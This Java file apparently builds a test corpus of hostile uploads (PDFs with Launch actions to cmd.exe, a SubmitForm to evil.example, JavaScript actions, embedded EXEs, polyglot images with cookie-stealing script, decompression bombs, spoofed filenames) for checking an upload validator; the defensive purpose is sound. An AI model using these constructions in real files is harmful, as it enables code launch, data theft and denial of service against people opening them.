package fr.integrance.platform.files;

import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.function.Consumer;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import javax.imageio.ImageIO;

import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;

import fr.integrance.platform.FileRejection;

/**
 * The hostile corpus, made by code so that no hostile binary is committed: each file with
 * the name it is uploaded under and the reason it must be refused; and the genuine files
 * that must pass. {@link #main} writes it to a directory (with a manifest) for the drill
 * {@code ops/drills/hostile-uploads.sh}.
 */
public final class HostileFiles {

	/** A file of the corpus: its upload name (may hold NUL or RTL characters). */
	public record Sample(String id, String uploadName, byte[] content, FileRejection expected) {

		@Override
		public String toString() {
			return id;
		}

	}

	/** A genuine file that must be accepted. */
	public record Genuine(String id, String uploadName, byte[] content) {

		@Override
		public String toString() {
			return id;
		}

	}

	private static final String HTML = "<!DOCTYPE html><html><body><script>fetch('/x?c='+document.cookie)</script></body></html>";

	private static final String EICAR = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

	private HostileFiles() {
	}

	public static List<Sample> hostile() {
		List<Sample> all = new ArrayList<>();
		all.add(new Sample("launch-openaction", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("Launch", COSName.F, new COSString("C:\\Windows\\System32\\cmd.exe")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("launch-page-aa", "attestation.pdf", pdf(doc -> {
			COSDictionary aa = new COSDictionary();
			aa.setItem(COSName.O, action("Launch", COSName.F, new COSString("cmd.exe")));
			doc.getPage(0).getCOSObject().setItem(COSName.AA, aa);
		}), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("launch-compressed", "attestation.pdf", pdf(
				doc -> catalog(doc).setItem(COSName.OPEN_ACTION, action("Launch", COSName.F, new COSString("cmd.exe"))),
				true), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("embedded-exe", "attestation.pdf", pdf(doc -> {
			COSDictionary spec = fileSpec(doc);
			COSArray names = new COSArray();
			names.add(new COSString("facture.exe"));
			names.add(spec);
			COSDictionary tree = new COSDictionary();
			tree.setItem(COSName.NAMES, names);
			COSDictionary nameDictionary = new COSDictionary();
			nameDictionary.setItem(COSName.getPDFName("EmbeddedFiles"), tree);
			catalog(doc).setItem(COSName.NAMES, nameDictionary);
		}), FileRejection.EMBEDDED_FILE));
		all.add(new Sample("file-attachment-annotation", "attestation.pdf", pdf(doc -> {
			COSDictionary annotation = new COSDictionary();
			annotation.setItem(COSName.TYPE, COSName.ANNOT);
			annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("FileAttachment"));
			annotation.setItem(COSName.RECT, rect());
			annotation.setItem(COSName.FS, fileSpec(doc));
			annotations(doc).add(annotation);
		}), FileRejection.EMBEDDED_FILE));
		all.add(new Sample("submitform", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("SubmitForm", COSName.F, new COSString("https://evil.example/collect")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("importdata", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("ImportData", COSName.F, new COSString("\\\\evil\\share\\data.fdf")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("javascript-openaction", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("JavaScript", COSName.JS, new COSString("app.alert(1)")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("javascript-object-stream", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("JavaScript", COSName.JS, new COSString("app.alert(1)"))), true),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("javascript-escaped-names", "attestation.pdf",
				latin1(latin1(genuinePdf()).replaceFirst("/Type /Catalog",
						"/Type /Catalog /OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>")),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("link-javascript-uri", "attestation.pdf",
				pdf(doc -> annotations(doc).add(link(action("URI", COSName.URI, new COSString("javascript:alert(1)")))),
						true),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("link-file-uri", "attestation.pdf",
				pdf(doc -> annotations(doc)
					.add(link(action("URI", COSName.URI, new COSString("file:///C:/Windows/System32/cmd.exe"))))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("gotor-remote", "attestation.pdf",
				pdf(doc -> annotations(doc).add(link(action("GoToR", COSName.F, new COSString("\\\\evil\\x.pdf"))))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("gotoe-embedded", "attestation.pdf",
				pdf(doc -> catalog(doc).setItem(COSName.OPEN_ACTION,
						action("GoToE", COSName.NEW_WINDOW, COSName.getPDFName("true")))),
				FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("richmedia", "attestation.pdf", pdf(doc -> {
			COSDictionary annotation = new COSDictionary();
			annotation.setItem(COSName.SUBTYPE, COSName.getPDFName("RichMedia"));
			annotation.setItem(COSName.RECT, rect());
			annotations(doc).add(annotation);
		}), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("xfa-form", "attestation.pdf", pdf(doc -> {
			COSDictionary form = new COSDictionary();
			form.setItem(COSName.FIELDS, new COSArray());
			form.setItem(COSName.XFA, new COSString("<xdp:xdp/>"));
			catalog(doc).setItem(COSName.ACRO_FORM, form);
		}), FileRejection.ACTIVE_CONTENT));
		all.add(new Sample("pdf-then-html", "attestation.pdf", concat(genuinePdf(), ascii("\n" + HTML)),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("pdf-html-in-comment", "attestation.pdf", latin1(
				latin1(genuinePdf()).replaceFirst("\n", java.util.regex.Matcher.quoteReplacement("\n%" + HTML + "\n"))),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("pdf-eicar-in-comment", "attestation.pdf",
				latin1(latin1(genuinePdf()).replaceFirst("\n",
						java.util.regex.Matcher.quoteReplacement("\n%" + EICAR + "\n"))),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("jpeg-then-html", "photo.jpg", concat(jpeg(), ascii(HTML)), FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("jpeg-comment-script", "photo.jpg", jpegWithComment("<script>alert(1)</script>"),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("jpeg-trailing-binary", "photo.jpg", concat(jpeg(), new byte[] { 1, 2, 3, 4, 'M', 'Z' }),
				FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("png-then-html", "scan.png", concat(png(), ascii(HTML)), FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("png-trailing-zip", "scan.png", concat(png(), zipBomb()), FileRejection.HIDDEN_CONTENT));
		all.add(new Sample("png-50000x50000", "scan.png", hugePng(50_000, 50_000), FileRejection.TOO_MANY_PIXELS));
		all.add(new Sample("png-100000x1", "scan.png", hugePng(100_000, 1), FileRejection.TOO_MANY_PIXELS));
		all.add(new Sample("jpeg-65000x65000", "photo.jpg", hugeJpeg(), FileRejection.TOO_MANY_PIXELS));
		all.add(new Sample("pdf-flate-bomb-1gb", "attestation.pdf", pdfBomb(false), FileRejection.TOO_COMPLEX));
		all.add(new Sample("pdf-hex-flate-bomb-1gb", "attestation.pdf", pdfBomb(true), FileRejection.TOO_COMPLEX));
		all.add(new Sample("pdf-501-pages", "attestation.pdf", pdfPages(501), FileRejection.TOO_COMPLEX));
		all.add(new Sample("zip-bomb-as-pdf", "attestation.pdf", zipBomb(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("zip-bomb", "archive.zip", zipBomb(), FileRejection.TYPE_NOT_ALLOWED));
		all.add(new Sample("exe-as-pdf", "attestation.pdf", exe(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("elf-as-png", "scan.png", elf(), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("html-as-pdf", "attestation.pdf", ascii(HTML), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("svg-as-png", "scan.png",
				ascii("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>"),
				FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("eicar-as-pdf", "attestation.pdf", ascii(EICAR), FileRejection.CONTENT_MISMATCH));
		all.add(new Sample("double-extension", "facture.pdf.exe", genuinePdf(), FileRejection.TYPE_NOT_ALLOWED));
		all.add(new Sample("nul-in-name", "facture\u0000.pdf", genuinePdf(), FileRejection.NAME_NOT_ALLOWED));
		all.add(new Sample("rtl-override-name", "facture\u202Efdp.exe", genuinePdf(), FileRejection.NAME_NOT_ALLOWED));
		all.add(new Sample("overlong-name", "a".repeat(300) + ".pdf", genuinePdf(), FileRejection.NAME_NOT_ALLOWED));
		all.add(new Sample("empty", "attestation.pdf", new byte[0], FileRejection.EMPTY));
		byte[] whole = genuinePdf();
		all.add(new Sample("truncated-pdf", "attestation.pdf", java.util.Arrays.copyOf(whole, whole.length / 2),
				FileRejection.UNREADABLE));
		all.add(new Sample("encrypted-pdf", "attestation.pdf", encryptedPdf("secret"), FileRejection.ENCRYPTED));
		all.add(new Sample("encrypted-pdf-no-user-password", "attestation.pdf", encryptedPdf(""),
				FileRejection.ENCRYPTED));
		all.add(new Sample("over-5mb", "attestation.pdf", new byte[5 * 1024 * 1024 + 1], FileRejection.TOO_LARGE));
		return all;
	}

	public static List<Genuine> genuine() {
		return List.of(new Genuine("pdf", "attestation.pdf", genuinePdf()),
				new Genuine("pdf-compressed", "Attestation de droits – été 2026.PDF", pdf(doc -> {
				}, true)),
				new Genuine("pdf-https-link", "attestation.pdf",
						pdf(doc -> annotations(doc)
							.add(link(action("URI", COSName.URI, new COSString("https://www.ameli.fr/assure")))))),
				new Genuine("jpeg", "carte.JPG", jpeg()), new Genuine("jpeg-long-ext", "carte.jpeg", jpeg()),
				new Genuine("png", "scan.png", png()),
				new Genuine("png-with-path", "C:\\Users\\marie\\Documents\\scan.png", png()));
	}

	/**
	 * Writes the corpus and its manifest (id, hex of the upload name, expected reason).
	 */
	public static void main(String[] args) throws IOException {
		Path directory = Path.of(args.length > 0 ? args[0] : "target/hostile-corpus");
		Files.createDirectories(directory);
		StringBuilder manifest = new StringBuilder();
		for (Sample sample : hostile()) {
			Files.write(directory.resolve(sample.id()), sample.content());
			manifest.append(sample.id())
				.append('\t')
				.append(HexFormat.of().formatHex(sample.uploadName().getBytes(StandardCharsets.UTF_8)))
				.append('\t')
				.append(sample.expected())
				.append('\n');
		}
		for (Genuine file : genuine()) {
			Files.write(directory.resolve("genuine-" + file.id()), file.content());
			manifest.append("genuine-")
				.append(file.id())
				.append('\t')
				.append(HexFormat.of().formatHex(file.uploadName().getBytes(StandardCharsets.UTF_8)))
				.append("\tACCEPTED\n");
		}
		Files.writeString(directory.resolve("manifest.tsv"), manifest);
	}

	// --- builders

	static byte[] genuinePdf() {
		return pdf(doc -> {
		});
	}

	private static byte[] pdf(Consumer<PDDocument> tweak) {
		return pdf(tweak, false);
	}

	private static byte[] pdf(Consumer<PDDocument> tweak, boolean compressed) {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			PDPage page = new PDPage();
			document.addPage(page);
			try (PDPageContentStream content = new PDPageContentStream(document, page)) {
				content.beginText();
				content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
				content.newLineAtOffset(72, 700);
				content.showText("Attestation de droits");
				content.endText();
			}
			tweak.accept(document);
			document.save(out, compressed ? CompressParameters.DEFAULT_COMPRESSION : CompressParameters.NO_COMPRESSION);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static byte[] pdfPages(int pages) {
		return pdf(doc -> {
			for (int i = 1; i < pages; i++) {
				doc.addPage(new PDPage());
			}
		}, true);
	}

	/**
	 * A page whose content stream inflates to 1 GB of zeros (optionally hex-encoded too).
	 */
	private static byte[] pdfBomb(boolean hexFirst) {
		byte[] deflated = deflatedZeros(1024L * 1024 * 1024);
		return pdf(doc -> {
			try {
				PDStream stream = new PDStream(doc);
				COSStream cos = stream.getCOSObject();
				try (OutputStream raw = cos.createRawOutputStream()) {
					raw.write(hexFirst ? HexFormat.of().formatHex(deflated).getBytes(StandardCharsets.US_ASCII)
							: deflated);
				}
				if (hexFirst) {
					COSArray filters = new COSArray();
					filters.add(COSName.ASCII_HEX_DECODE);
					filters.add(COSName.FLATE_DECODE);
					cos.setItem(COSName.FILTER, filters);
				}
				else {
					cos.setItem(COSName.FILTER, COSName.FLATE_DECODE);
				}
				doc.getPage(0).setContents(stream);
			}
			catch (IOException ex) {
				throw new UncheckedIOException(ex);
			}
		});
	}

	private static byte[] deflatedZeros(long size) {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (DeflaterOutputStream deflater = new DeflaterOutputStream(out, new Deflater(9), 64 * 1024)) {
			byte[] zeros = new byte[1024 * 1024];
			for (long written = 0; written < size; written += zeros.length) {
				deflater.write(zeros);
			}
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] encryptedPdf(String userPassword) {
		try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			document.addPage(new PDPage());
			StandardProtectionPolicy policy = new StandardProtectionPolicy("owner-secret", userPassword,
					new AccessPermission());
			policy.setEncryptionKeyLength(128);
			document.protect(policy);
			document.save(out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static COSDictionary catalog(PDDocument document) {
		return document.getDocumentCatalog().getCOSObject();
	}

	private static COSArray annotations(PDDocument document) {
		COSDictionary page = document.getPage(0).getCOSObject();
		COSArray annotations = page.getCOSArray(COSName.ANNOTS);
		if (annotations == null) {
			annotations = new COSArray();
			page.setItem(COSName.ANNOTS, annotations);
		}
		return annotations;
	}

	private static COSDictionary action(String type, COSName key, org.apache.pdfbox.cos.COSBase value) {
		COSDictionary action = new COSDictionary();
		action.setItem(COSName.TYPE, COSName.getPDFName("Action"));
		action.setItem(COSName.S, COSName.getPDFName(type));
		action.setItem(key, value);
		return action;
	}

	private static COSDictionary link(COSDictionary action) {
		COSDictionary annotation = new COSDictionary();
		annotation.setItem(COSName.TYPE, COSName.ANNOT);
		annotation.setItem(COSName.SUBTYPE, COSName.LINK);
		annotation.setItem(COSName.RECT, rect());
		annotation.setItem(COSName.A, action);
		return annotation;
	}

	private static COSArray rect() {
		COSArray rect = new COSArray();
		for (int v : new int[] { 72, 600, 300, 640 }) {
			rect.add(org.apache.pdfbox.cos.COSInteger.get(v));
		}
		return rect;
	}

	private static COSDictionary fileSpec(PDDocument document) {
		try {
			PDStream embedded = new PDStream(document);
			try (OutputStream out = embedded.createOutputStream()) {
				out.write(exe());
			}
			embedded.getCOSObject().setItem(COSName.TYPE, COSName.getPDFName("EmbeddedFile"));
			COSDictionary ef = new COSDictionary();
			ef.setItem(COSName.F, embedded.getCOSObject());
			COSDictionary spec = new COSDictionary();
			spec.setItem(COSName.TYPE, COSName.FILESPEC);
			spec.setItem(COSName.F, new COSString("facture.exe"));
			spec.setItem(COSName.EF, ef);
			return spec;
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	static byte[] png() {
		return image("png", 40, 20);
	}

	static byte[] jpeg() {
		return image("jpg", 40, 20);
	}

	private static byte[] image(String format, int width, int height) {
		BufferedImage image = new BufferedImage(width, height, BufferedImage.TYPE_INT_RGB);
		image.setRGB(3, 3, 0xFF0000);
		try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
			ImageIO.write(image, format, out);
			return out.toByteArray();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	/**
	 * A real small PNG whose IHDR announces other dimensions (the CRC is not checked).
	 */
	private static byte[] hugePng(int width, int height) {
		byte[] png = png();
		writeInt(png, 16, width);
		writeInt(png, 20, height);
		return png;
	}

	/** A real small JPEG whose SOF announces 65,000 × 65,000 pixels. */
	private static byte[] hugeJpeg() {
		byte[] jpeg = jpeg();
		for (int i = 2; i + 9 < jpeg.length; i++) {
			if ((jpeg[i] & 0xFF) == 0xFF && (jpeg[i + 1] & 0xFF) == 0xC0) {
				jpeg[i + 5] = (byte) 0xFD;
				jpeg[i + 6] = (byte) 0xE8;
				jpeg[i + 7] = (byte) 0xFD;
				jpeg[i + 8] = (byte) 0xE8;
				return jpeg;
			}
		}
		throw new IllegalStateException("No SOF0 in the JPEG");
	}

	private static byte[] jpegWithComment(String comment) {
		byte[] jpeg = jpeg();
		byte[] text = ascii(comment);
		int length = text.length + 2;
		byte[] segment = concat(new byte[] { (byte) 0xFF, (byte) 0xFE, (byte) (length >> 8), (byte) length }, text);
		return concat(concat(java.util.Arrays.copyOf(jpeg, 2), segment),
				java.util.Arrays.copyOfRange(jpeg, 2, jpeg.length));
	}

	/** A zip holding 100 MB of zeros (the classic shape of a bomb, smaller). */
	private static byte[] zipBomb() {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		try (ZipOutputStream zip = new ZipOutputStream(out)) {
			zip.setLevel(9);
			zip.putNextEntry(new ZipEntry("zeros.bin"));
			byte[] zeros = new byte[1024 * 1024];
			for (int i = 0; i < 100; i++) {
				zip.write(zeros);
			}
			zip.closeEntry();
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
		return out.toByteArray();
	}

	private static byte[] exe() {
		byte[] exe = new byte[1024];
		exe[0] = 'M';
		exe[1] = 'Z';
		exe[0x3C] = (byte) 0x80;
		exe[0x80] = 'P';
		exe[0x81] = 'E';
		System.arraycopy(ascii("This program cannot be run in DOS mode."), 0, exe, 0x4E, 39);
		return exe;
	}

	private static byte[] elf() {
		byte[] elf = new byte[512];
		elf[0] = 0x7F;
		elf[1] = 'E';
		elf[2] = 'L';
		elf[3] = 'F';
		elf[4] = 2;
		elf[5] = 1;
		elf[6] = 1;
		return elf;
	}

	private static void writeInt(byte[] bytes, int at, int value) {
		bytes[at] = (byte) (value >>> 24);
		bytes[at + 1] = (byte) (value >>> 16);
		bytes[at + 2] = (byte) (value >>> 8);
		bytes[at + 3] = (byte) value;
	}

	private static byte[] concat(byte[] a, byte[] b) {
		byte[] both = java.util.Arrays.copyOf(a, a.length + b.length);
		System.arraycopy(b, 0, both, a.length, b.length);
		return both;
	}

	private static byte[] ascii(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

	private static String latin1(byte[] bytes) {
		return new String(bytes, StandardCharsets.ISO_8859_1);
	}

	private static byte[] latin1(String text) {
		return text.getBytes(StandardCharsets.ISO_8859_1);
	}

}
